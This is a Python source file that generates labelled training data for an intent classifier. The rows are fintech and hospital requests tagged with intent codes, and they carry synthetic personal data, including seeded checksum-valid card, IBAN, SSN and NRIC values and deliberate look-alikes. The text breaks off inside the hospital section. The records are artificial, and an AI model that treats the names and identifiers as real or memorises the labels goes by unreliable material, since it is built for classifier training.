# ruff: noqa: E501  (request texts are prose and pasted material; they stay unwrapped)
"""Hand-written training corpus ``train_diverse20.jsonl``, acceptance-tester style.

About 480 requests from customers and employees of a fintech, a hospital network,
a cybersecurity consultancy, a law practice and a public-sector agency, each
written and labelled one by one. Rows use the RECORD dialect of ``corpus.py``:
``@ intent d cx s [tool ...] [:: clause]`` lines, an optional ``@ !hn`` for a hard
negative, then the request text.

Inside a text, ``[[P:name]]``, ``[[E:email]]``, ``[[PH:phone]]`` and ``[[IP:addr]]``
mark hand-typed PII; ``{CC3}``, ``{IB5}``, ``{SSN2}``, ``{NR4}`` insert seeded,
checksum-valid (marked) values and ``{XCC1}``, ``{XIB2}``, ``{XNR1}`` seeded
look-alikes that fail their checksum (unmarked).

Run: ``python tests/data/intent/train_diverse20_source.py``.
"""

from __future__ import annotations

import re

import corpus
from corpus import (
    HERE,
    PII_LEVEL,
    Values,
    check_lookalikes,
    mark,
    record_rows,
    write_and_check,
)

V = Values(200_417)

_CARD_SPECS = [("4", 16, " "), ("5412", 16, "-"), ("37", 15, " "), ("6011", 16, ""),
               ("2221", 16, " "), ("4", 16, ""), ("53", 16, " "), ("34", 15, "-"),
               ("4", 16, "-"), ("55", 16, "")]  # fmt: skip
_IBAN_COUNTRIES = ["DE", "GB", "FR", "NL", "ES", "IT", "CH", "BE", "IE", "AT",
                   "PL", "SE", "NO", "LU"]  # fmt: skip

GEN: dict[str, str] = {}
for i in range(20):
    prefix, length, sep = _CARD_SPECS[i % len(_CARD_SPECS)]
    GEN[f"CC{i + 1}"] = mark("CREDIT_CARD", V.card(prefix, length, sep))
for i in range(22):
    country = _IBAN_COUNTRIES[i % len(_IBAN_COUNTRIES)]
    GEN[f"IB{i + 1}"] = mark("IBAN", V.iban(country, spaced=i % 3 != 1))
for i in range(16):
    GEN[f"SSN{i + 1}"] = mark("US_SSN", V.ssn("-" if i % 4 else " "))
for i in range(16):
    GEN[f"NR{i + 1}"] = mark("SG_NRIC", V.nric("STFGM"[i % 5]))

LOOK: dict[str, str] = {}
for i in range(24):
    LOOK[f"XCC{i + 1}"] = V.bad_card(
        "4" if i % 2 else "5", ["-", " ", ""][i % 3], 1 + i % 8
    )
for i in range(20):
    country = _IBAN_COUNTRIES[(i * 5) % len(_IBAN_COUNTRIES)]
    LOOK[f"XIB{i + 1}"] = V.bad_iban(country, spaced=i % 2 == 0, shift=7 + i)
for i in range(6):
    good = V.nric("STFGM"[i % 5])
    LOOK[f"XNR{i + 1}"] = good[:-1] + ("A" if good[-1] != "A" else "B")
check_lookalikes(LOOK)

SHORT = {"P": "PERSON", "E": "EMAIL", "PH": "PHONE", "IP": "IP_ADDRESS"}
INLINE = re.compile(r"\[\[([A-Z]+):([^\]]+)\]\]")
UNRESOLVED = re.compile(r"\{[A-Z][A-Z0-9_]+\}|\[\[|\]\]")


def expand(raw: str) -> str:
    """Marks the inline PII and inserts the seeded values and look-alikes."""

    def inline(m: re.Match[str]) -> str:
        kind = SHORT.get(m.group(1), m.group(1))
        assert kind in PII_LEVEL, m.group(0)
        return mark(kind, m.group(2))

    out = INLINE.sub(inline, raw)
    for name, value in {**GEN, **LOOK}.items():
        out = out.replace("{" + name + "}", value)
    assert not UNRESOLVED.search(out), out
    return out


# ---------------------------------------------------------------- fintech (Quillpay)
FINTECH = r"""
@ qa f l p
What's the actual difference between a chargeback and a refund? Two sentences max, I need to explain it to a customer.

@ extract f m r
Pull the cardholder name, last four digits of the card, amount and merchant out of this dispute email and give them back as JSON.

From: [[E:m.okonkwo@gmail.com]]
Subject: unauthorised charge
Hi, I'm [[P:Miriam Okonkwo]]. My card {CC1} was charged $482.17 by "GLOBEX TRAVEL LTD" on 14 March and I never made that booking. Please reverse it. You can reach me on [[PH:+44 7700 900512]].

@ math f l p calc
A customer puts SGD 12,000 in our 9-month fixed deposit at 3.15% p.a. simple interest. How much interest do they get at maturity?

@ draft f m c
Write a polite decline email to [[P:Tomás Ferreira]] of Ferreira Bakes: his €45,000 working-capital loan was rejected because the last 6 months of turnover were below our €20k/month threshold. Offer the micro-loan product instead. Under 150 words, no jargon.

@ code f m i code
Our nightly reconciliation keeps flagging pennies that match. Can you rewrite this so amounts are compared as Decimal instead of float, and add two pytest cases?

def matches(ledger_amt, bank_amt):
    return abs(float(ledger_amt) - float(bank_amt)) < 0.01

@ classify f l i
Tag each ticket as card / transfer / login / KYC / other:
1. "face scan keeps failing when I upload my passport"
2. "transfer to my mum's account stuck in pending since Tuesday"
3. "can't log in after switching phones"
4. "virtual card declined at Uber"
5. "how do I close my account"

@ sentiment f l p
App store review: "Used to love this app. Since the last update the FX rates are worse than my high-street bank and support takes 3 days to answer. Moving my salary elsewhere." Positive, negative or mixed? One line.

@ translate f l p
Translate into Bahasa Indonesia for the Jakarta launch banner: "Your transfer is on its way. Funds usually arrive within 2 business days. Track it anytime in the Activity tab."

@ chat g l p
morning! first week on the payments ops team and I'm already on the on-call rota 😅 wish me luck

@ reasoning f h c calc
We hold $38M of customer float at one partner bank earning 4.1%. Options: keep it there, or split 50/30/20 across Bank A, Bank B (4.3%, T+2 access) and Bank C (3.9%, same-day access). As a licensed e-money institution, which option would you recommend when you weigh concentration risk, yield and liquidity? Lay out the trade-offs before the recommendation.

@ summarize f m c :: Summarise the incident below for the exec channel
@ draft f m c :: draft the customer notice
@ math f m c :: work out how many transactions were double-charged if 0.7% of the 212,480 card transactions in the window were duplicated
Summarise the incident below for the exec channel, draft the customer notice, and work out how many transactions were double-charged if 0.7% of the 212,480 card transactions in the window were duplicated.

INC-4471 | 2024-06-11 09:12-10:47 UTC | Card processor retry storm
- Acquirer gateway returned 504s; our client retried without idempotency keys
- Duplicate captures hit customers in UK and IE; auto-reversal job started 11:30
- Refunds visible in app within 3-5 days; no data exposure
- Owner: Payments Platform; postmortem due Friday

@ extract f l i
@ !hn
Extract invoice number, PO, amount and due date from this line and return them as a table: "Invoice INV-2024-08817 / PO 4500193377 / amount due EUR 18,420.50 / due 2024-09-30 / internal ref {XCC1}"

@ qa f l p web
What is the current ECB deposit facility rate?

@ code f h i code
Write a SQL query for Postgres that finds users who made more than 5 outbound transfers to *new* payees within any rolling 24-hour window in the last 30 days. Tables: transfers(id, user_id, payee_id, amount_minor, created_at), payees(id, user_id, created_at). Explain the window function you use.

@ draft f m i
Draft a one-paragraph changelog entry for customers: we're raising the free ATM withdrawal allowance on Premium from £400 to £600 a month starting 1 October, and removing the 2% fee on weekend FX for Premium only. Friendly, not salesy.

@ creative g l p
Give me 8 punchy names for a teen savings feature where parents match every pound saved. Nothing with "kid" in it.

@ math f m p calc
If I borrow £15,000 over 5 years at 7.9% APR, roughly what's the monthly repayment and the total interest?

@ sentiment f m c
Here's a thread from our business customers' Slack community. For each message tell me whether the tone is positive, neutral or negative toward Quillpay:

[09:14] hanna_k: payouts landed early again today, honestly the best thing about switching
[09:20] rob.builds: still waiting on the VAT export fix that was promised in May
[09:22] hanna_k: @rob.builds same, we export by hand every month
[09:41] lucia_m: the new invoice templates are fine I guess
[10:02] deepak_s: third failed payroll batch this quarter. Looking at alternatives.

@ extract f m r
From this KYC note, list every identifier (name, DOB, national ID, email, phone) as key: value pairs.

Applicant: [[P:Lim Wei Ling]]
DOB: 1991-02-17
NRIC: {NR1}
Email: [[E:weiling.lim@outlook.sg]]
Mobile: [[PH:+65 9123 4478]]
Source of funds: salary (DBS payslips attached)

@ classify f m c
Is this a likely first-party fraud, third-party fraud or a genuine dispute? Customer says they didn't recognise a £1,240 payment to "ELECTRO-HUB ONLINE", but the device fingerprint and IP match their last 40 logins, the delivery address is their home, and they disputed two other electronics orders last year. Just the label and one sentence why.

@ translate f m c
Please translate this letter to Spanish (Spain) — it's going to a customer in Valencia, keep it formal, usted form:

Dear Mr [[P:Alejandro Ruiz]],
Following our review, we have closed your account ending 4471 in line with section 12.3 of our Terms. Any remaining balance of €1,203.55 will be returned to your nominated account within 10 working days.

@ summarize f h i
Summarise the attached FCA Consumer Duty board report into 5 bullets for the all-hands deck, focusing on what changes for frontline teams:

Outcome 1 (Products & services): target market reviews completed for 4 of 6 products; Savings Pot and Crypto Round-Ups outstanding.
Outcome 2 (Price & value): fair value assessment found the £4.99 card replacement fee poor value for vulnerable customers; proposal to waive for flagged users.
Outcome 3 (Consumer understanding): readability testing of T&Cs scored grade 14; target grade 9 by Q2.
Outcome 4 (Consumer support): average complaint resolution 6.3 days vs 5-day target; chat wait times peak Mondays.
Data gaps: no vulnerability flag on 31% of accounts opened before 2022.

@ qa f m i retr
What's our internal limit for same-day SEPA Instant payments on a standard business account? Check the limits policy.

@ chat g l p
thanks, that query worked first time 🙌

@ math f m i calc
Our interchange on UK consumer debit is capped at 0.2%. Last month we processed £84.6M of debit volume. What's the maximum interchange revenue, and what would it be if 12% of that volume had been on commercial cards at 1.5% instead?

@ code f m i
Explain what this regex in our payee validation does and whether it would accept "GB29 NWBK 6016 1331 9268 91" with spaces:

^[A-Z]{2}[0-9]{2}[A-Z0-9]{11,30}$

@ draft f h c retr
Prepare a board paper (max 2 pages) recommending we stop onboarding crypto exchanges as business customers. Points: 3 SARs filed on exchange accounts in Q2, our correspondent bank raised it in the last review, revenue from the segment is £210k/yr. Include options considered and a risk rating.

@ reasoning f m i
Why would a card authorisation be approved but the settlement never arrive? Give me the most likely reasons in order of probability, we're seeing it on about 40 transactions from one merchant.

@ extract f l i
@ !hn
Grab all the transaction references from this export line — they look like card numbers but they're not:
TXN 2024-07-03 REF {XCC2} GBP 45.00 / TXN 2024-07-03 REF {XCC3} GBP 12.99 / TXN 2024-07-04 REF {XCC4} GBP 310.00

@ qa f l p
is a virtual card number the same as my real card number?

@ draft f m r :: Write a short email to the customer confirming we've updated her payout account to the IBAN below
@ extract f m r :: list the fields we still need from her for the change-of-bank form
Write a short email to the customer confirming we've updated her payout account to the IBAN below, then list the fields we still need from her for the change-of-bank form.

Customer: [[P:Anneke de Vries]] ([[E:anneke@devries-design.nl]])
New IBAN: {IB4}
Form fields: account holder name, IBAN, BIC, proof of account (statement < 3 months), signed declaration
Received: statement dated 02/05/2024, IBAN

@ classify f l p
Which of these are "needs" and which are "wants" for a budgeting tutorial? rent, Netflix, bus pass, gym membership, groceries, new trainers, phone bill, takeaway coffee

@ creative f m p
Write a 6-line rhyming poem for our 5-year anniversary email about how saving small amounts adds up. Warm, a bit playful, no emojis.

@ math f l p calc
What's 2.75% of €3,480?

@ qa f m p
How does a BNPL provider actually make money if the customer pays 0% interest?

@ sentiment f m i
Rate the frustration level (1-5) in each of these chat openers and tell me which ones should be routed to a senior agent:
a) "hi, quick one about my statement"
b) "THIS IS THE THIRD TIME I'M ASKING. where is my money"
c) "not happy that my card got frozen while I was abroad tbh"
d) "hey! love the app, just can't find the split bill button"

@ code f h i code
Our fraud team wants a quick Python script that reads transactions.csv (columns: ts, user_id, amount, country), flags any user with a transaction in two different countries less than 2 hours apart, and writes flagged rows to flagged.csv. Use pandas, keep it under 40 lines.

@ summarize f m c
Summarise this customer's complaint history for the ombudsman response team, chronological, one line per contact:

12 Jan - chat - asked why £250 transfer to Revolut delayed; told fraud check, released same day
19 Jan - email - complained about lack of notice for the hold; agent apologised, £10 goodwill
03 Feb - phone - card frozen after login from new device; unfrozen after ID&V
04 Feb - email - formal complaint: "third freeze in a month, I run a business on this account"
20 Feb - letter - final response issued, complaint not upheld
11 Mar - FOS referral received

@ draft f m c :: draft a reply to the merchant explaining the reserve
@ math f m c :: calculate the reserve amount at 10% of their trailing 90-day volume
@ draft f m c :: suggest what they can do to get it released early
Merchant Lakeside Vapes is furious about the rolling reserve we put on them. Can you draft a reply to the merchant explaining the reserve, calculate the reserve amount at 10% of their trailing 90-day volume (Apr £61,200, May £58,900, Jun £73,450), and suggest what they can do to get it released early?

@ qa f m i retr
Does our complaints procedure require a final response within 8 weeks or 15 business days for payment services complaints? I always mix them up.

@ reasoning f h c
Here are two underwriting outcomes that look inconsistent. Applicant A: 640 credit score, £52k income, 38% DTI — approved at £12k. Applicant B: 700 score, £48k income, 29% DTI — declined. Both self-employed, both 2 years trading. What could explain the difference, and is there a fairness issue we should escalate to the model risk team?

@ translate f l i
Can you put this push notification into French, German and Italian? "Heads up: your card payment of {amount} to {merchant} was declined because your balance is too low."

@ extract f m r
List the payment details in this text so I can key them in the bulk-payments template (beneficiary, IBAN, amount, reference):

Pls pay our supplier Müller Verpackung GmbH, IBAN {IB1}, EUR 7,450.00, ref RE-2024-1187. Also [[P:Jonas Weber]] expenses EUR 312.40 to {IB15}, ref SPESEN-JUL.

@ chat g l p
lol our standup just turned into a 40 minute debate about whether a hot dog is a sandwich

@ qa f h p
Explain how SEPA Instant differs from Faster Payments in settlement model, limits and liability for misdirected payments. A table is fine.

@ classify f m c
Classify the risk level (low/medium/high) of these merchants for onboarding, one word each plus the reason:
- Online florist, UK, 3 years trading, £40k/month
- Nutraceutical subscription boxes, free trial model, registered in Cyprus
- Ticket reseller for concerts, 6 months old, £400k/month forecast
- Local accountancy firm, invoices paid by bank transfer

@ math f h c calc
Our cohort from January 2024 had 18,400 signups. Month-1 retention was 62%, and after that we lose 4.5% of the remaining users every month. How many are left at month 12? And what's the average revenue if survivors generate £3.10/month each across those 12 months?

@ extract f l i
@ !hn
From the settlement file header below, return the batch id, file version and run date as JSON:
HDR|BATCH=SET-20240815-0042|VER=4.2.0.17|RUN=15/08/2024 02:10|RECS=18842|TOTAL=2,914,337.06

@ draft f l i
Write a Slack message reminding the team that card scheme fee invoices for July are due to Visa by the 25th and that finance needs the accrual estimates by Wednesday. Keep it light.

@ reasoning f m p
If interest rates fall by 1 point next year, what happens to a neobank whose main income is interest on customer deposits? Walk me through the chain of effects.

@ code f m i
Code review please — anything dangerous about this webhook handler?

app.post("/webhooks/payout", (req, res) => {
  const event = JSON.parse(req.body);
  if (event.type === "payout.paid") {
    db.payouts.update({ id: event.id }, { status: "paid" });
  }
  res.sendStatus(200);
});

@ summarize f l i
tl;dr this for me pls: "Effective 1 Nov, all cross-border transfers above USD 10,000 will require the purpose-of-payment code field. Transfers without it will be held in the compliance queue and released within 1 business day after manual review. Customers will be prompted in-app."

@ creative f m p
Write a short bedtime-story style explainer (200 words) for a kids' savings app about a squirrel who learns why interest makes acorns grow.

@ sentiment f l p
"Honestly the cashback is decent but the app crashes whenever I open the analytics tab." What's the overall sentiment?

@ math f m c calc
Quick FX check: customer sent GBP 2,500 to EUR at our rate of 1.1612 with a 0.45% fee taken from the GBP amount. How many euros should have arrived? They say they got €2,889.90.

@ qa f l i retr
what's the cutoff time for same-day CHAPS on our platform?

@ draft f h r :: write the SAR narrative for the compliance officer
@ summarize f h r :: summarise the account activity in a table by month
@ classify f h r :: say which red-flag typologies it matches
Based on the case notes below, write the SAR narrative for the compliance officer, summarise the account activity in a table by month, and say which red-flag typologies it matches.

Subject: [[P:Viktor Sahakyan]], DOB 1979-11-04, SSN {SSN1}
Account opened 2024-01-09. Declared occupation: used-car dealer, expected turnover $8k/month.
Jan: 41 cash deposits of $9,500-$9,900 at 6 branches, total $398,200
Feb: 37 cash deposits, total $356,100; 12 wires out to Dubai trading companies
Mar: wires out $690,000 to 4 new beneficiaries; account balance kept under $5k at month end
Customer declined to explain source of funds when called on [[PH:(312) 555-0187]].

@ qa s m p
Is 3-D Secure 2 the same thing as strong customer authentication or just one way of doing it?

@ classify f l i
@ !hn
Sort these GL postings into revenue, cost of sales or opex: JE-000481 interchange income 41,203.11; JE-000482 card scheme fees 18,966.40; JE-000483 AWS invoice INV-8810-2291 23,450.00; JE-000484 FX markup income 9,311.72; JE-000485 office rent Q3 36,000.00

@ reasoning f h i
Our approval rate dropped from 91% to 84% overnight after the issuer processor update to build 7.3.1.204. Declines are mostly code 05 "do not honour", concentrated on Mastercard prepaid BINs, only on e-commerce. Walk through what you'd check first and what the likely cause is.

@ extract f m c
Get me the names and emails of everyone who was CC'd in this thread so I can set up the follow-up:

From: [[P:Grace Adeyemi]] <[[E:grace.adeyemi@quillpay.com]]>
To: [[E:partnerships@lumenbank.co.uk]]
CC: [[P:Priyanka Sharma]] <[[E:priyanka.s@lumenbank.co.uk]]>, [[P:Ben Hollis]] <[[E:b.hollis@quillpay.com]]>
Subject: Agency banking renewal — pricing call Thursday

@ chat g l p
do you ever get tired of people asking you about interest rates

@ translate f m r
Translate to English, I need to forward it to the disputes team:

Bonjour, je m'appelle [[P:Claire Dubois]]. Un paiement de 89,90 € a été prélevé deux fois sur ma carte {CC9} le 3 juin chez "BOULANGERIE ST-MARC". Merci de me rembourser le doublon. Mon numéro : [[PH:+33 6 12 48 77 05]].

@ code f m i code
Give me a Python function that validates a UK sort code and account number pair using the modulus check weights table (I'll pass the table in as a dict). Include docstring and type hints.

@ draft f m i :: Draft the FAQ entry explaining why a payment can be held for review
@ translate f m i :: translate it into Polish
@ summarize f m i :: give me a 20-word version for the in-app tooltip
Draft the FAQ entry explaining why a payment can be held for review (fraud checks, sanctions screening, unusual amounts), translate it into Polish, and then give me a 20-word version for the in-app tooltip.

@ math f l p calc
How much is 1,250,000 JPY in USD at 157.3?

@ extract f l i
@ !hn
What are the order numbers in these refund requests? "Refund for order #88123077, the dress didn't fit", "Order 112-4839201-5567322 arrived broken", "Please cancel ORD-2024-99172 — charged twice (amounts €49.99 and €49.99)".

@ reasoning f m p
My partner and I are arguing: is it smarter to overpay the mortgage at 4.2% or put the extra £300/month in a stocks ISA? We're both 34, no other debt. Don't just say "it depends" — reason it out.

@ classify f m i
Label each of these 6 app-store reviews by topic (fees, app stability, customer support, features) — a review can have more than one:
1. "Fees on weekend exchange are a joke"
2. "Crashes on my Pixel every time I open cards"
3. "Support solved my problem in 5 minutes, amazing"
4. "Please add joint accounts!!"
5. "Froze my account and nobody answers the chat"
6. "The new budgeting charts are slick"

@ summarize f m c
Give me the key numbers from this investor update in 4 bullets — ARR, burn, runway and headcount:

Q2 was our strongest quarter yet. ARR grew 18% QoQ to £14.2M, driven by the SME invoicing add-on. Net burn came down to £1.1M/month from £1.6M thanks to the vendor consolidation work. With £19.8M in the bank we now have ~18 months of runway. We ended the quarter at 142 FTE after pausing hiring in non-revenue teams.

@ qa f m p
What does "T+1 settlement" mean for US equities and when did it start?

@ draft f m c
Rewrite this collections letter so it's less threatening but still clear the account goes to an external agency in 14 days. Audience: customers in financial difficulty, reading age 9.

"FINAL DEMAND. You have failed to pay the outstanding sum of £612.40. Unless full payment is received within 14 days, we will instruct debt recovery agents and this may affect your credit file."

@ sentiment f m c
Go through these NPS comments from business customers and tell me the overall mood plus the top recurring complaint:
"9 - fast payouts, love it"
"3 - the accounting integration breaks every month"
"6 - fine but Xero sync is flaky"
"10 - your support team is brilliant"
"4 - sync with Xero still broken after 2 months"

@ code f h i code
I have a Kafka consumer in Go that processes card authorisation events. Sometimes it processes the same event twice after a rebalance. Show me how to make the handler idempotent using the event_id with Redis SETNX and a 24h TTL.

@ extract f l i
@ !hn
Which build did the mobile release go out on and when? "Release notes: Android 5.14.2 (build 51402118), iOS 5.14.2 (build 2024.08.19.3), rolled out 19 Aug 2024 to 25%, 100% on 22 Aug."

@ math f m c calc
Customer [[P:Daniel Okafor]] has overdraft arrears of £1,840. He proposes paying £95 a month. Interest is frozen. How many months until it's cleared, and what's the last payment?

@ creative f l p
give me a tagline for our new no-fee travel card, something about "spend like a local" — 5 options

@ qa f l p
Can a bank freeze my account without telling me? (UK)

@ classify f m r
Check each of these payout requests and label them APPROVE or HOLD per our rule: hold if the IBAN country differs from the merchant's country or if it's the first payout over €10k.
1. Merchant FR, payout €4,200 to {IB3}
2. Merchant NL, payout €18,500 to {IB18}, first payout
3. Merchant DE, payout €2,950 to {IB12}

@ draft f m i
Draft the agenda for Thursday's 45-minute chargeback working group: review July loss rates, Visa VAMP threshold changes, the new evidence template, and AOB. Include time boxes.

@ reasoning f h c :: Given the loan book data below, is the rise in 30+ day arrears a seasonal blip or a real deterioration?
@ math f h c :: Calculate the arrears rate for each month
Given the loan book data below, is the rise in 30+ day arrears a seasonal blip or a real deterioration? Calculate the arrears rate for each month first.

Month | Active loans | 30+ DPD
Jan | 10,420 | 318
Feb | 10,610 | 331
Mar | 10,880 | 362
Apr | 11,050 | 420
May | 11,190 | 489
Jun | 11,260 | 566

@ chat g l p
hey, can you help me with something later? just wanted to check you're working

@ sentiment g l p
what's the vibe of this tweet: "wow @quillpay really said 'your call is important to us' for 58 minutes straight"

@ extract f h r
Parse these chargeback records into CSV with columns: case_id, card, amount, reason_code, deadline.

CB-77812 card {CC5} amt 129.00 USD reason 10.4 respond by 2024-09-02
CB-77813 card {CC6} amt 15.49 USD reason 13.1 respond by 2024-09-03
CB-77819 card {CC7} amt 842.10 USD reason 12.6.1 respond by 2024-09-05

@ qa f m i retr
Where's the runbook for when the BACS submission file is rejected by Vocalink?

@ translate f m p
Translate "regulated by the Financial Conduct Authority under the Electronic Money Regulations 2011 (firm reference 900123)" into Dutch and Portuguese for the footer.

@ draft f m c :: Draft a LinkedIn post announcing that we hit 1 million customers
@ creative f m p :: come up with 3 ideas for a celebration campaign that doesn't cost more than £20k
Draft a LinkedIn post announcing that we hit 1 million customers (thank the team, mention we're hiring in Lisbon), and come up with 3 ideas for a celebration campaign that doesn't cost more than £20k.

@ classify f l i
@ !hn
Which of these is an invoice id, which is a PO, and which is a ticket? INV-2023-11902, PO 4500207719, JIRA-8841, INV-2024-00317, CHG0041877

@ reasoning f m i
If we move card issuing from Processor X to Processor Y we save 3p per transaction but need 5 months of migration work with 4 engineers. At 9M transactions/month, is it worth it? Consider engineer cost around £9k/month each fully loaded and a 6-month delay risk.

@ qa f l p web
Has Visa announced any changes to interchange fees in the EU this year?

@ code f l i
what does `ROUND(amount_minor / 100.0, 2)` return in BigQuery if amount_minor is NULL?

@ summarize f m c :: Summarise what the customer wants
@ sentiment f m c :: tell me how angry they are on a 1-10 scale
@ draft f m c :: draft a reply that de-escalates
Summarise what the customer wants, tell me how angry they are on a 1-10 scale, and draft a reply that de-escalates:

"I've been a customer for 4 years and you just closed my account with no explanation. My salary goes in on Friday. I've had to borrow from my sister. I want the £3,212 returned TODAY and an explanation in writing or I'm going to the ombudsman and the papers."
"""

# ---------------------------------------------------------------- hospital network (Northgate Health)
HOSPITAL = r"""
@ summarize m m r
Turn this discharge note into a 5-line handover for the GP. Plain English, keep the meds list.

Pt: [[P:Margaret Ellison]], 78F. Admitted 02/09 with community-acquired pneumonia (CURB-65 = 2). Treated IV co-amoxiclav + clarithromycin 48h, stepped down to oral amoxicillin day 3. O2 weaned day 4. Background AF on apixaban 5mg BD, T2DM on metformin 1g BD (held during admission, restarted). Mobilising with frame, PT happy. CXR repeat in 6 weeks. Discharged 07/09 to home with daughter.

@ qa m l p
What's the normal adult range for serum potassium?

@ math m m c calc
Child weighs 18.4 kg. Paracetamol is 15 mg/kg every 6 hours, max 60 mg/kg/day. What's the single dose in mg, and how many mL of the 120 mg/5 mL suspension is that?

@ draft m m i
Write a reminder email to all ward managers that the new falls-risk assessment (version 3) must be used from Monday 4 November and the old paper form should be shredded. Under 120 words.

@ extract m m r
Extract patient name, DOB, allergies and current medications from this referral letter as JSON.

Dear colleague, I'd be grateful if you could see [[P:Rahul Menon]] (DOB 14/06/1966), who has had exertional chest tightness for 3 months. He is allergic to penicillin (rash) and ibuprofen (wheeze). Current medications: ramipril 5 mg OD, atorvastatin 40 mg ON, omeprazole 20 mg OD. ECG attached shows T-wave inversion V4-V6. Contact him on [[PH:07700 914 662]].

@ classify m m c
Triage category for each ED arrival using Manchester colours (red/orange/yellow/green/blue), one line each:
1. 34M, knife wound to thigh, bleeding controlled, HR 118
2. 6F, fever 38.4 for 1 day, playing, drinking well
3. 71M, sudden slurred speech 40 min ago, left arm weak
4. 25F, sprained ankle, can weight bear
5. 58F, crushing central chest pain, sweaty

@ translate m m r
Please translate these discharge instructions into Polish for Pan [[P:Tadeusz Wróbel]]:
"Take one tablet of bisoprolol every morning. Do not stop taking it suddenly. If you feel dizzy or faint, sit down and call the ward on [[PH:01632 960 448]]. Your follow-up appointment is on 18 October at 10:30 in Cardiology Clinic B."

@ sentiment m l i
How does this patient feel about their care? "The nurses on ward 9 were kind but I waited 11 hours in A&E on a trolley and nobody told my wife where I was."

@ reasoning m h c
62-year-old woman, 3 days post total knee replacement, new tachycardia 112, SpO2 93% on air, pleuritic chest pain, calf looks fine, on enoxaparin prophylaxis. What's on the differential, in order of likelihood, and what would you want done first? This is for a teaching case, not a live patient.

@ code m m i code
Write a SQL query against our bed management DB that returns, for each ward, the number of beds occupied for more than 21 days. Tables: admissions(admission_id, ward_code, admitted_at, discharged_at NULL if still in).

@ chat g l p
long night shift, 3am and the vending machine ate my pound. tell me something nice

@ creative m m p
Write a short poem (8 lines) for the retirement card of a midwife who's delivered over 4,000 babies in 32 years. Warm, a little funny.

@ summarize m h c retr :: Summarise the NICE guidance on sepsis for the nursing staff
@ draft m h i :: draft a one-page pocket card for ward use
Summarise the NICE guidance on sepsis for the nursing staff and draft a one-page pocket card for ward use — red flags, escalation, the first-hour bundle.

@ extract m l i
@ !hn
From this pharmacy order confirmation, pull the order number, lot numbers and expiry dates:
Order PO-77120944 confirmed 12/08/2024. Item 1: Ceftriaxone 1g vials x 200, lot C2405-118, exp 03/2026. Item 2: Enoxaparin 40mg PFS x 500, lot EN-7719-B, exp 11/2025. Delivery to Central Stores, dock 4.

@ qa m m p
Can you take ibuprofen while on sertraline? What's the actual risk?

@ math m m i calc
ICU has 18 beds. Over September (30 days) we had 471 occupied bed-days. What was the average occupancy rate, and how many extra beds would we need to stay under 85% if demand rises by 10%?

@ draft m h r
Draft a duty-of-candour letter to Mr [[P:Okoro]]'s family. Summary: on 14 June, his warfarin dose was recorded as 5 mg instead of 0.5 mg on transfer, he received two doses, INR rose to 8.9, reversed with vitamin K, no lasting harm. Apologise, explain what happened and what we've changed. Compassionate, no defensiveness, under 350 words.

@ classify m l i
Which specialty should each of these referrals go to? (cardio, neuro, gastro, derm, ortho)
- "Intermittent numbness in left hand, worse at night"
- "Changing mole on back, irregular border"
- "Palpitations on exertion, family history of sudden death"
- "Blood in stool, 6 weeks, weight loss"
- "Knee locking after football injury"

@ extract m m r
Make a table of every lab value in this note with units and whether it's high, low or normal:

[[P:Amara Nwosu]], 45F, MRN 00483922. Bloods 03/10: Hb 92 g/L, WCC 13.4 x10^9/L, Plt 410, Na 131 mmol/L, K 5.6 mmol/L, Creat 142 umol/L, CRP 88 mg/L.

@ qa m l p
what does "NBM" mean on a patient's board?

@ reasoning m m i
Our day-surgery unit cancels about 9% of lists on the day. Top reasons from the audit: patient not fasted (31%), no bed post-op (27%), surgeon overran (22%), patient DNA (20%). Where would you focus first to get the biggest drop, and why?

@ code m h i code
I need a Python script that reads HL7 v2 ADT^A01 messages from a folder, pulls PID-3 (MRN), PID-5 (name) and PV1-3 (location), and writes them to a CSV. Don't use any paid libraries — hl7apy or plain parsing is fine. Add a test with one sample message.

@ sentiment m m c
Here are six comments from the maternity Friends & Family Test. Score each as positive/negative/mixed and give me the overall picture in one sentence:
"Midwives were amazing, felt listened to"
"Postnatal ward was chaotic, had to ask 3 times for pain relief"
"Great birth, terrible food"
"My partner was sent home at 10pm and I was alone all night"
"Consultant explained everything clearly"
"Discharge took 9 hours"

@ translate m l p
How do you say "Are you in pain? Point to where it hurts" in Arabic, Somali and Romanian? We want to laminate it for ED.

@ summarize m m i
Give me a 3-bullet summary of the M&M meeting minutes below for people who missed it:

Case 1: delayed recognition of AKI on surgical ward; fluid balance charts incomplete for 36h. Action: e-obs fluid balance prompt.
Case 2: wrong-site block avoided by Stop Before You Block check. Shared as good practice.
Case 3: anticoagulation restarted too early post-op, bleed requiring return to theatre. Action: pharmacy review for all post-op anticoag restarts within 24h.

@ draft m m c :: Write the rota message
@ math m m i :: work out whether we're compliant with the 1:8 nurse-to-patient ratio on each shift
Write the rota message for next week and work out whether we're compliant with the 1:8 nurse-to-patient ratio on each shift: days have 28 patients and 4 RNs, nights 28 patients and 3 RNs, weekend days 26 patients and 3 RNs.

@ extract m l i
@ !hn
The infusion pumps on ward 12 keep alarming. Which firmware are they on? The asset report says: Pump SN-4471-0923-1182 fw 6.3.0.114, Pump SN-4471-0923-1190 fw 6.3.0.114, Pump SN-4471-0924-0007 fw 6.2.9.88, last service 2024-05-14.

@ qa m h p
Explain the mechanism by which SGLT2 inhibitors reduce heart-failure hospitalisations, at the level of a final-year medical student.

@ chat g l p
thank you so much, the handover template is perfect

@ classify m m r
Code this encounter with the most likely ICD-10 primary diagnosis: [[P:Joseph Kariuki]], 54M, presents with 2 days of productive cough, fever 38.9, right basal crackles, CXR right lower lobe consolidation. SSN on file {SSN2} (US insurance claim).

@ math m l p calc
Convert 98.6°F to Celsius, and a weight of 11 stone 4 lb to kg.

@ draft m m i retr
Draft an SOP for cleaning the ultrasound probes in outpatients (transvaginal and external probes), based on our infection control policy. Numbered steps, include who signs the log.

@ reasoning m h c
Patient on the ward has Na 119, was 132 two days ago, on thiazide and drinking lots of water, confused but no seizures. The F1 wants to give 3% saline quickly. Talk me through why that may or may not be a good idea and what the safe correction rate is. Teaching context.

@ extract m h r
From these clinic letters, extract for each patient: name, NHS number, diagnosis, next appointment. Return a CSV.

Letter 1: Re [[P:Sophie Hartmann]], NHS 943 476 5919. Diagnosis: relapsing-remitting MS. Next review 12/12/2024.
Letter 2: Re [[P:Kwame Asante]], NHS 401 023 2137. Diagnosis: epilepsy, focal onset. Next review 09/01/2025.
Letter 3: Re [[P:Li Na Zhao]], NHS 732 118 4406. Diagnosis: migraine with aura. Discharged to GP.

@ summarize m m p
Summarise this abstract in two sentences for a patient newsletter:

